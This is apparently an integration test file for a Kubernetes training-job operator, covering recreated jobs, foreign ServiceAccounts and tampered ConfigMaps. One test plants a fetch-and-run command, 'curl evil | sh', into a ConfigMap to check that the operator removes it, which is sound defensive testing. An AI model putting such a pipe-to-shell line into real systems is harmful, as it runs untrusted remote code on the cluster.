"""Trust boundaries through the real operator on the real control plane: a job created again
under the name of a deleted one (its `Retain` claim), an object of the job's name that is not
the job's, and a started-spec ConfigMap someone edited.

The kubelet here is played by the tests: the trainer's side (the output folder's owner file,
exit code 13) runs for real in tests/integration/trainer/test_trainer_output_owner.py; here a
pod ends the way that trainer ends it, and the operator's handling of it is what is tested.
"""

from __future__ import annotations

import json

import pytest
from kubernetes import client

from ftjob_api import contract, naming
from tests.integration.operator.helpers import (TIMEOUT, Real, bring_up, condition, describe,
                                                event_reasons, events, get_job, manifest,
                                                objects, phase_is, pods, status, summary,
                                                wait_event)
from tests.polling import wait_for

pytestmark = pytest.mark.cluster


@pytest.fixture
def h(cluster) -> Real:
    return Real(cluster)


def core(h: Real) -> client.CoreV1Api:
    return client.CoreV1Api(h.api_client)


def gone(h: Real) -> None:
    """Delete the job and wait until it and its pods are gone (garbage collection)."""
    h.delete_job()
    wait_for(lambda: get_job(h) is None and not pods(h), TIMEOUT, what="the job and its pods gone",
             describe=lambda: describe(h))


def test_same_name_recreated_with_a_retain_claim_refuses_then_adopts_the_old_output(
        h, run_operator):
    with run_operator():
        old_uid = h.create_job(manifest())["metadata"]["uid"]
        bring_up(h)
        claim = naming.claim("demo")
        gone(h)
        assert [c["metadata"]["name"] for c in objects(h, "persistentvolumeclaims")] == [claim]

        # The same name again: it gets the same claim, whose folder records the old uid.
        new_uid = h.create_job(manifest())["metadata"]["uid"]
        bring_up(h)
        h.kubelet.terminate(h.ns, naming.pod("demo", 1, 0),
                            contract.ExitCode.OUTPUT_OWNED_BY_OTHER_JOB, message=summary(
                                status="failed", exitCode=13, reason="OutputOwnedByOtherJob",
                                message=f"/output holds the output of another job (demo, uid "
                                        f"{old_uid}); this job (demo, uid {new_uid}) neither "
                                        "resumes from it nor writes into it"))
        st = wait_for(phase_is(h, "Failed"), TIMEOUT, what="Failed", describe=lambda: describe(h))
        failed = condition(st, "Failed")
        assert failed["reason"] == "OutputOwnedByOtherJob"
        assert old_uid in failed["message"]
        assert st.get("restarts", 0) == 0 and st["attempt"] == 1  # permanent: no restart
        gone(h)

        # Adopting knowingly: the trainer resumes and reports the previous owner.
        h.create_job(manifest(storage={"accessModes": ["ReadWriteMany"], "size": "1Gi",
                                       "adoptPreviousOutput": True}))
        bring_up(h)
        h.custom.patch_namespaced_custom_object_status(
            *h._args(), "demo", {"status": {"checkpoint": {
                "resumedFromStep": 20, "adoptedFromJobUid": old_uid}}},
            _content_type="application/merge-patch+json")
        wait_event(h, "OutputAdopted")
        st = wait_for(lambda: condition(s := status(h), "OutputAdopted") and s, TIMEOUT,
                      what="the OutputAdopted condition", describe=lambda: describe(h))
        assert old_uid in condition(st, "OutputAdopted")["message"]
        assert st["phase"] == "Running"


def test_a_service_account_of_the_jobs_name_made_by_hand_is_not_adopted(h, run_operator):
    account = naming.trainer_account("demo")
    core(h).create_namespaced_service_account(h.ns, {"metadata": {
        "name": account, "annotations": {"iam.example.com/role": "someone-elses"}}})
    with run_operator():
        h.create_job(manifest(restartPolicy={"maxRestarts": 2, "backoffSeconds": 0,
                                             "pendingTimeoutSeconds": 30}))
        expected = (f"ServiceAccount {account} already exists and is owned by no owner, not by "
                    "this job")
        st = wait_for(lambda: (c := condition(s := status(h), "OwnershipConflict"))
                      and c["status"] == "True" and s, TIMEOUT,
                      what="the OwnershipConflict condition", describe=lambda: describe(h))
        assert condition(st, "OwnershipConflict")["message"] == expected
        assert st["phase"] == "Pending" and expected in st["message"]
        wait_event(h, "ObjectOwnedByOther")
        assert not pods(h)  # nothing runs as someone else's identity
        st = wait_for(phase_is(h, "Failed"), TIMEOUT, what="Failed after pendingTimeoutSeconds",
                      describe=lambda: describe(h))
        assert condition(st, "Failed")["reason"] == "ObjectOwnedByOther"
        assert expected in condition(st, "Failed")["message"]
        assert not pods(h)
    found = core(h).read_namespaced_service_account(account, h.ns)
    assert not found.metadata.owner_references  # left as it was
    assert found.metadata.annotations == {"iam.example.com/role": "someone-elses"}


def job_file(h: Real) -> dict:
    cm = core(h).read_namespaced_config_map(naming.config_map("demo"), h.ns)
    return json.loads(cm.data[contract.JOB_FILE_NAME])


def test_an_edited_started_spec_is_put_back_before_the_next_attempt(h, run_operator):
    with run_operator():
        h.create_job(manifest())
        bring_up(h)
        original = job_file(h)
        assert status(h)["startedSpecDigest"].startswith("sha256:")
        edited = json.loads(json.dumps(original))
        edited["spec"]["model"] = {"path": "/models/someone-elses"}
        core(h).patch_namespaced_config_map(naming.config_map("demo"), h.ns, {"data": {
            contract.JOB_FILE_NAME: json.dumps(edited), "extra.sh": "curl evil | sh"}})
        wait_event(h, "StartedSpecRestored")
        wait_for(lambda: job_file(h) == original, TIMEOUT, what="the ConfigMap put back")
        cm = core(h).read_namespaced_config_map(naming.config_map("demo"), h.ns)
        assert set(cm.data) == {contract.JOB_FILE_NAME}
        # The next attempt starts from the spec the job started with.
        h.kubelet.terminate(h.ns, naming.pod("demo", 1, 1), 1)
        bring_up(h, attempt=2)
        assert job_file(h) == original
        # Each pod carries the digest of the file it must read (the trainer refuses another).
        digest = status(h)["startedSpecDigest"]
        assert digest == contract.job_digest(original)
        for pod in pods(h, attempt=2):
            env = {e["name"]: e.get("value") for e in pod["spec"]["containers"][0]["env"]}
            assert env[contract.ENV_JOB_DIGEST] == digest
        warning = next(e for e in events(h) if e["reason"] == "StartedSpecRestored")
        assert warning["type"] == "Warning"
        assert "StartedSpecChanged" not in event_reasons(h)
